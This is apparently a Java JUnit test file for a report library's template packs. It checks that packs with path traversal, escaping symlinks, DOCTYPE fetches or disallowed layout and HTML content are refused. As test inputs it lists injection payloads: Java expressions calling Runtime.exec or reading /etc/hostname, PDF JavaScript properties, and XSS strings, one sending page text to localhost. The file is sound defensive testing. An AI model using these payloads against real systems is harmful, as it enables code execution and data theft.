package dev.rapport.templates;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.rapport.api.RapportException;
import dev.rapport.report.Reports;
import dev.rapport.report.template.TemplatePack;
import dev.rapport.testkit.sample.SampleRun;
import dev.rapport.testkit.template.Extracted;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PacksTest {

    @TempDir
    private Path folder;

    @Test
    void theAgencysPackChangesTheBrandOnly() {
        TemplatePack agency = Packs.agency();
        assertThat(agency.brandName()).isEqualTo("Nordlicht Agency");
        assertThat(agency.colour()).isEqualTo("#3B4BA3");
        assertThat(agency.file("pdf/page.jrxml")).isEqualTo(Packs.standard().file("pdf/page.jrxml"));
        String text = Extracted.pdf(new Reports().pdf("shortlist", SampleRun.client(), agency));
        assertThat(text).contains("Nordlicht Agency", "example-agency 1.0.0");
    }

    @Test
    void aMisspeltKeyIsNamedWithItsPlaceAndTheNearestOne() throws IOException {
        write("id: x\nversion: 1\nneeds-api: \">=1.0.0\"\nextend: standard\n");
        assertThatThrownBy(() -> TemplatePack.load(folder, List.of()))
                .isInstanceOf(RapportException.class)
                .hasMessageContaining("pack-key: The key (extend)")
                .hasMessageContaining("pack.yaml")
                .hasMessageContaining("Maybe extends.");
    }

    @Test
    void aPackForAnotherApiIsRefused() throws IOException {
        write("id: x\nversion: 1\nneeds-api: \">=2.0.0\"\n");
        assertThatThrownBy(() -> TemplatePack.load(folder, List.of())).hasMessageContaining("needs-api:");
    }

    @Test
    void aPackThatExtendsAnUnknownOneSaysWhereItLooked() throws IOException {
        write("id: x\nversion: 1\nneeds-api: \">=1.0.0\"\nextends: standart\n");
        assertThatThrownBy(() -> TemplatePack.load(folder, List.of(Packs.FOLDER)))
                .hasMessageContaining("pack-missing: The pack (standart)")
                .hasMessageContaining(Packs.FOLDER.toString());
    }

    @Test
    void anIdThatIsAPathIsRefused() throws IOException {
        write("id: x\nversion: 1\nneeds-api: \">=1.0.0\"\nextends: ../../elsewhere\n");
        assertThatThrownBy(() -> TemplatePack.load(folder, List.of(Packs.FOLDER)))
                .hasMessageContaining("pack-id:");
    }

    @Test
    void aLanguageThatIsNotThereIsNamed() {
        assertThatThrownBy(() -> Packs.standard().words("../../x"))
                .hasMessageContaining("language-missing: The language (../../x)");
    }

    @Test
    void aLogoOutsideThePackIsRefused() throws IOException {
        write("id: x\nversion: 1\nneeds-api: \">=1.0.0\"\nbrand: {logo: ../secret.png}\n");
        assertThatThrownBy(() -> TemplatePack.load(folder, List.of())).hasMessageContaining("pack-logo:");
    }

    @Test
    void aLogoThatIsNoPngIsRefused() throws IOException {
        write("id: x\nversion: 1\nneeds-api: \">=1.0.0\"\nbrand: {logo: logo.svg}\n");
        Files.writeString(folder.resolve("logo.svg"), "<svg/>");
        assertThatThrownBy(() -> TemplatePack.load(folder, List.of()))
                .hasMessageContaining("pack-logo: The logo (logo.svg) is not a PNG.");
    }

    @Test
    void everyProblemOfAPackIsToldAtOnceWithItsPlace() throws IOException {
        write("id: x\nversion: 1\nextend: standard\nbrand: {colour: red}\n");
        assertThatThrownBy(() -> TemplatePack.load(folder, List.of()))
                .hasMessageContaining("pack.yaml:3:1: pack-key:")
                .hasMessageContaining("pack-key-missing: The key (needs-api)")
                .hasMessageContaining("pack-colour:");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"\" + new java.io.File(\"MARK\").mkdir()",
                "\"\" + java.nio.file.Files.createDirectory(java.nio.file.Path.of(\"MARK\"))",
                "\"\" + Runtime.getRuntime().exec(new String[] {\"mkdir\", \"MARK\"})",
                "\"\" + Class.forName(\"java.lang.System\")",
                "System.getProperty(\"user.home\")",
                "\"\" + $P{REPORT_PARAMETERS_MAP}.getClass().getClassLoader()",
                "new String(new java.net.URL(\"file:/etc/hostname\").openStream().readAllBytes())"
            })
    void aLayoutCannotReachTheMachine(String attack) throws IOException {
        Path mark = folder.resolve("mark");
        TemplatePack pack = withPage("$F{anchor}", attack.replace("MARK", mark.toString()));
        assertThatThrownBy(() -> new Reports().pdf("shortlist", SampleRun.client(), pack))
                .isInstanceOf(RapportException.class);
        assertThat(mark).doesNotExist();
    }

    @ParameterizedTest
    @ValueSource(ints = {60, 20_000})
    void whatIsNestedMoreDeeplyThanAnyLayoutIsToldOnce(int frames) throws IOException {
        String title = "<title height=\"46\">";
        String nested =
                "<element kind='frame' x='0' y='0' width='9' height='9'>".repeat(frames) + "</element>".repeat(frames);
        TemplatePack pack = withPage(title, title + nested);
        assertThatThrownBy(() -> new Reports().pdf("shortlist", SampleRun.client(), pack))
                .isInstanceOfSatisfying(
                        RapportException.class, e -> assertThat(e.problems()).hasSize(1))
                .hasMessageContaining("layout-refused:")
                .hasMessageContaining("more than 40 deep");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<element kind='image' x='0' y='0' width='9' height='9'><expression>\"LOGO\"</expression></element>",
                "<element kind='frame' x='0' y='0' width='9' height='9'><element kind='image' x='0' y='0' width='9'"
                        + " height='9'><expression>\"LOGO\"</expression></element></element>",
                "<element kind='image' x='0' y='0' width='9' height='9'><expression>$P{footRight}</expression></element>",
                "<element kind='subreport' x='0' y='0' width='9' height='9'><expression>\"x.jasper\"</expression></element>"
            })
    void aLayoutCannotShowAFileOfTheMachine(String element) throws IOException {
        Path logo = Packs.FOLDER.resolve("example-agency/logo.png");
        String detail = "<title height=\"46\">";
        TemplatePack pack = withPage(detail, detail + element.replace("LOGO", logo.toString()));
        assertThatThrownBy(() -> new Reports().pdf("shortlist", SampleRun.client(), pack))
                .hasMessageContaining("layout-refused:");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<property name='net.sf.jasperreports.export.pdf.javascript' value='app.alert(1)'/>",
                "<property name='net.sf.jasperreports.default.file.repository.enabled' value='true'/>",
                "<import value='java.io.*'/>",
                "<template>\"http://localhost/x.jrtx\"</template>",
                "<style name='s' pdfFontName='/etc/passwd'/>",
                "<parameter name='p' class='java.io.File'/>",
                "<parameter name='p' class='java.lang.String'><defaultValueExpression>\"x\"</defaultValueExpression>"
                        + "</parameter>",
                "<variable name='v' class='java.lang.Integer' calculation='Sum' incrementerFactoryClass='x.Y'/>",
                "<scriptlet name='s' class='x.Y'/>",
                "<query language='sql'>select 1</query>",
                "<dataset name='d'/>",
                "<x:element xmlns:x='http://localhost/x'/>",
            })
    void aLayoutSaysNothingThatIsNotOnTheList(String element) throws IOException {
        String style = "<style name=\"base\"";
        TemplatePack pack = withPage(style, element + style);
        assertThatThrownBy(() -> new Reports().pdf("shortlist", SampleRun.client(), pack))
                .hasMessageContaining("layout-refused:")
                .hasMessageContaining("page.jrxml:4:");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "kind='textField' linkType='Reference'",
                "kind='textField' linkType='javascript'",
                "kind='textField' hyperlinkType='RemoteAnchor'",
                "kind='textField' markup='html'",
                "kind='textField' isPdfEmbedded='false'",
                "kind='chart'",
                "kind='component'",
            })
    void anElementLeadsNowhereElse(String kind) throws IOException {
        String title = "<title height=\"46\">";
        TemplatePack pack = withPage(
                title,
                title + "<element " + kind + " x='0' y='0' width='9' height='9'><expression>$P{footRight}</expression>"
                        + "</element>");
        assertThatThrownBy(() -> new Reports().pdf("shortlist", SampleRun.client(), pack))
                .hasMessageContaining("layout-refused:");
    }

    @Test
    void aDocumentTypeIsRefusedBeforeAnythingIsFetched() throws IOException {
        try (java.net.ServerSocket server = new java.net.ServerSocket(0)) {
            server.setSoTimeout(1);
            String root = "<jasperReport ";
            TemplatePack pack = withPage(
                    root,
                    "<!DOCTYPE jasperReport SYSTEM \"http://127.0.0.1:" + server.getLocalPort() + "/x.dtd\">" + root);
            assertThatThrownBy(() -> new Reports().pdf("shortlist", SampleRun.client(), pack))
                    .hasMessageContaining("layout-refused: The layout has a DOCTYPE");
            assertThatThrownBy(server::accept).isInstanceOf(java.net.SocketTimeoutException.class);
        }
    }

    @Test
    void namesAndTextsMayBeJoinedAndAreNeverCompiled() throws IOException {
        TemplatePack pack = withPage("$P{footRight}", "\"Ours: \" + $P{footRight} + \" / \" + $V{PAGE_NUMBER}");
        // Many times: each filling once made classes of its own.
        for (int i = 0; i < 20; i++) {
            String text = Extracted.pdf(new Reports().pdf("shortlist", SampleRun.client(), pack));
            assertThat(text).contains("Ours: ").contains(" / 1");
        }
    }

    @Test
    void allThatALayoutMayNotSayIsToldAtOnce() throws IOException {
        TemplatePack pack = withPage(
                "<![CDATA[$P{footRight}]]></expression>",
                "new String()</expression><hyperlinkReferenceExpression>\"x\"</hyperlinkReferenceExpression>");
        assertThatThrownBy(() -> new Reports().pdf("shortlist", SampleRun.client(), pack))
                .hasMessageContaining("<hyperlinkReferenceExpression>")
                .hasMessageContaining("(new String())");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script src='http://localhost/evil.js'></script>",
                "<script>location='http://localhost/'+document.body.innerText</script>",
                "<img src=\"http://localhost/beacon\">",
                "<img src=//localhost/beacon>",
                "<img srcset='http://localhost/beacon'>",
                "<iframe src='http://localhost/'></iframe>",
                "<meta http-equiv='refresh' content='0;url=http://localhost/'>",
                "<link rel=stylesheet href='http://localhost/x.css'>",
                "<base href='http://localhost/'>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='http://localhost/'>x</a>",
                "<p onclick='alert(1)'>x</p>",
                "<p style='background:url(http://localhost/)'>x</p>",
                "<form action='http://localhost/'><button>x</button></form>",
                "<svg><image href='http://localhost/x'/></svg>",
                "<object data='http://localhost/x'></object>",
                "<style>@import 'http://localhost/x.css';</style>",
            })
    void aPageOfAPackLoadsNothingAndLeadsNowhere(String markup) throws IOException {
        TemplatePack pack = withHtml("<footer>", markup + "<footer>");
        assertThatThrownBy(() -> new Reports().html("shortlist", SampleRun.client(), pack))
                .hasMessageContaining("page-refused:")
                .hasMessageContaining("page.html:16:");
    }

    @Test
    void thePolicyStandsFirstWhateverAPackWrites() throws IOException {
        TemplatePack pack = withHtml("<meta name=\"referrer\" content=\"no-referrer\">", "");
        String page = new String(new Reports().html("shortlist", SampleRun.client(), pack), StandardCharsets.UTF_8);
        assertThat(page.substring(page.indexOf("<head>")))
                .startsWith("<head>\n<meta charset=\"utf-8\">\n<meta http-equiv=\"Content-Security-Policy\""
                        + " content=\"default-src 'none';");
        TemplatePack bare = withHtml("<head>", "<body><p>first</p><head>");
        assertThatThrownBy(() -> new Reports().html("shortlist", SampleRun.client(), bare))
                .hasMessageContaining("page-refused:");
    }

    @ParameterizedTest
    @ValueSource(strings = {"html/page.css", "logo.png", "i18n/en.properties", "pdf/page.jrxml"})
    void aLinkNeverLeavesItsPack(String name) throws IOException {
        Path secret = Files.writeString(folder.resolve("secret.txt"), "my secret");
        Path pack = Files.createDirectories(folder.resolve("pack"));
        Files.writeString(pack.resolve("pack.yaml"), "id: x\nversion: 1\nneeds-api: \">=1.0.0\"\nextends: standard\n");
        Files.createDirectories(pack.resolve(name).getParent());
        Files.createSymbolicLink(pack.resolve(name), secret);
        assertThatThrownBy(() -> TemplatePack.load(pack, List.of(Packs.FOLDER)))
                .hasMessageContaining("link-leaves-pack:")
                .hasMessageContaining(name)
                .hasMessageNotContaining("my secret");
    }

    @Test
    void aFileThatIsFarTooLargeIsNotRead() throws IOException {
        write("id: x\nversion: 1\nneeds-api: \">=1.0.0\"\nextends: standard\n");
        Files.createDirectories(folder.resolve("html"));
        Files.write(folder.resolve("html/page.css"), new byte[6 << 20]);
        TemplatePack pack = TemplatePack.load(folder, List.of(Packs.FOLDER));
        assertThatThrownBy(() -> new Reports().html("shortlist", SampleRun.client(), pack))
                .hasMessageContaining("file-too-large:");
    }

    private TemplatePack withHtml(String text, String replacement) throws IOException {
        write("id: x\nversion: 1\nneeds-api: \">=1.0.0\"\nextends: standard\n");
        String page = Files.readString(Packs.FOLDER.resolve("standard/html/page.html"));
        assertThat(page).contains(text);
        Files.createDirectories(folder.resolve("html"));
        Files.writeString(folder.resolve("html/page.html"), page.replace(text, replacement));
        return TemplatePack.load(folder, List.of(Packs.FOLDER));
    }

    private TemplatePack withPage(String text, String replacement) throws IOException {
        write("id: x\nversion: 1\nneeds-api: \">=1.0.0\"\nextends: standard\n");
        String layout = Files.readString(Packs.FOLDER.resolve("standard/pdf/page.jrxml"));
        assertThat(layout).contains(text);
        Files.createDirectories(folder.resolve("pdf"));
        Files.writeString(folder.resolve("pdf/page.jrxml"), layout.replace(text, replacement));
        return TemplatePack.load(folder, List.of(Packs.FOLDER));
    }

    private void write(String yaml) throws IOException {
        Files.writeString(folder.resolve("pack.yaml"), yaml);
    }
}
